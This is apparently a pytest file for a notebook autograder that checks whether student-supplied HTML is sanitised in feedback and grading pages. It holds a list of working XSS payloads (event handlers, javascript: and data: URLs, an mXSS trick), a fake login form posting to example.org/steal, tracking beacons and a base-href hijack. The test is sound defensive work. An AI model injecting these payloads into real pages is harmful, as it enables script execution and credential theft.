"""Pages that show a graded notebook: what student code or text put there looks as it did, and does nothing."""

import json
import re
import shutil
import subprocess

import pytest
from nbconvert.exporters import HTMLExporter
from nbformat.v4 import new_markdown_cell, new_raw_cell
from nbgrader.server_extensions.formgrader import handlers
from traitlets.config import Config
from traitlets.config.loader import PyFileConfigLoader

from autograder.samples import notebooks

# Whatever runs leaves its mark in the page's title.
_RUN = "document.title='PWNED'"
_POLICY = 'meta http-equiv="Content-Security-Policy" content='
HOSTILE = [
    f"<script>{_RUN}</script>",
    f'<img src="x" onerror="{_RUN}">',
    f'<svg onload="{_RUN}"><script>{_RUN}</script></svg>',
    f'<iframe srcdoc="<script>parent.{_RUN}</script>"></iframe>',
    f'<details open ontoggle="{_RUN}">x</details>',
    f'<style>@keyframes x{{}} p{{animation-name:x}}</style><p onanimationstart="{_RUN}">x</p>',
    f'<a id="link" href="javascript:{_RUN}">link</a>',
    f'<a href="data:text/html,<script>{_RUN}</script>">link</a>',
    f'<object data="data:text/html,<script>parent.{_RUN}</script>"></object>',
    f'<math><mtext></p><img src=x onerror="{_RUN}"></mtext></math>',
    '<form action="https://example.org/steal"><input name="password"><button>Log in</button></form>',
    '<img src="https://example.org/seen.png">',
    '<div style="position:fixed;inset:0;background:url(https://example.org/seen.png)">cover</div>',
    '<meta http-equiv="refresh" content="0;url=https://example.org">',
    '<base href="https://example.org/">',
]
_CELL = f"""
from IPython.display import display
x = 2
RUN = {json.dumps(_RUN)}
BREAK_OUT = '1" onerror="' + RUN
for html in {json.dumps(HOSTILE)}:
    for kind in ("text/html", "text/markdown", "image/svg+xml", "text/latex", "text/plain", "text/vnd.mermaid"):
        display({{kind: html, "text/plain": "plain"}}, raw=True)
    display({{"image/png": BREAK_OUT}}, raw=True, metadata={{"image/png": {{"width": BREAK_OUT}}}})
    display({{"application/javascript": RUN, "text/plain": "plain"}}, raw=True)
    print(html)
display({{"text/html": "<table><tr><td style='color: red; position: fixed'>kept</td></tr></table>"}}, raw=True)
raise ValueError({json.dumps(HOSTILE[0])})
"""


@pytest.fixture(scope="module")
def pages(new_course):
    """The feedback page and formgrader's page of a hostile notebook."""
    course = new_course()
    course.hand_in("mallory", answer_x=_CELL)
    path = course.submitted("mallory") / "p1.ipynb"
    book = notebooks.read(path)
    for html in HOSTILE:
        book.cells += [new_markdown_cell(f"{html}\n\n**bold** ${html}$"), new_raw_cell(html)]
        book.cells.append(new_raw_cell(html, metadata={"raw_mimetype": "text/html"}))
    notebooks.write(book, path)
    course.autograde()
    course.nbgrader("generate_feedback", "ps1")
    feedback = course.folder / "feedback" / "mallory" / "ps1"
    overview = (feedback / "index.html").read_text()
    return {
        "feedback": (feedback / "p1.html").read_text(), "overview": overview, "formgrader": _in_formgrader(course)
    }  # fmt: skip


def _in_formgrader(course):
    """Return the page that formgrader makes of a graded notebook, with the settings that it adds to the course's."""
    config = PyFileConfigLoader("nbgrader_config.py", str(course.folder)).load_config()
    more = Config()
    more.HTMLExporter.template_name = "formgrade"
    more.HTMLExporter.extra_template_basedirs = [handlers.template_path]
    config.merge(more)
    about = {"assignment_id": "ps1", "notebook_id": "p1", "submission_id": "1", "index": 0, "total": 1, "base_url": "/"}
    about |= {"student": "mallory", "last_name": "", "first_name": "", "notebook_path": "p1.ipynb"}
    path = course.folder / "autograded" / "mallory" / "ps1" / "p1.ipynb"
    return HTMLExporter(config=config).from_filename(str(path), resources=about)[0]


@pytest.mark.parametrize("name", ["feedback", "formgrader"])
def test_looks_are_kept(pages, name):
    assert '<td style="color:red">kept</td>' in pages[name]
    assert "<strong>bold</strong>" in pages[name]


@pytest.mark.parametrize("name", ["feedback", "formgrader"])
def test_nothing_of_it_asks_a_foreign_server(pages, name):
    kept = [line for line in pages[name].splitlines() if "example.org" in line and "&lt;" not in line]
    assert not [line for line in kept if any(word in line for word in ("src=", "url(", "action=", "<base", "<meta"))]


@pytest.mark.parametrize("name", ["feedback", "formgrader"])
def test_nothing_of_it_runs(pages, name, tmp_path):
    browser = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
    if browser is None:
        pytest.skip("no browser is installed here, so nobody can see what a page runs")
    assert "PWNED" in _title_in(browser, f"<script>{_RUN}</script>", tmp_path)
    # Cleaning alone is enough: a page of ours would also keep scripts from running that it has overlooked.
    assert "PWNED" not in _title_in(browser, pages[name].replace(_POLICY, "meta name="), tmp_path)


@pytest.mark.parametrize("name", ["feedback", "overview"])
def test_a_page_of_ours_runs_nothing_that_cleaning_has_overlooked(pages, name, tmp_path):
    browser = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
    if browser is None:
        pytest.skip("no browser is installed here, so nobody can see what a page runs")
    overlooked = pages[name].replace("</article>", f'<script>{_RUN}</script><img src="x" onerror="{_RUN}"></article>')
    assert "PWNED" in _title_in(browser, overlooked.replace(_POLICY, "meta name="), tmp_path)
    assert "PWNED" not in _title_in(browser, overlooked, tmp_path)


@pytest.mark.parametrize("name", ["feedback", "overview"])
def test_a_page_of_ours_asks_no_server_at_all(pages, name):
    asked = re.findall(r"""<(?!a\b)[a-z]+[^>]*\b(?:src|href|action|data|poster)="(?!data:)[^"]*""", pages[name])
    assert asked == []
    assert not re.search("@import|url[(]", pages[name].partition("</style>")[0])


def _title_in(browser, page, folder):
    """Return the title of a page once all of it has been loaded and run."""
    path = folder / "page.html"
    path.write_text(page)
    flags = ["--headless", "--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-background-networking"]
    command = [browser, *flags, f"--user-data-dir={folder / 'profile'}", "--virtual-time-budget=3000", "--dump-dom"]
    done = subprocess.run([*command, path.as_uri()], capture_output=True, text=True, timeout=90, check=True)
    return done.stdout.partition("<title>")[2].partition("</title>")[0]
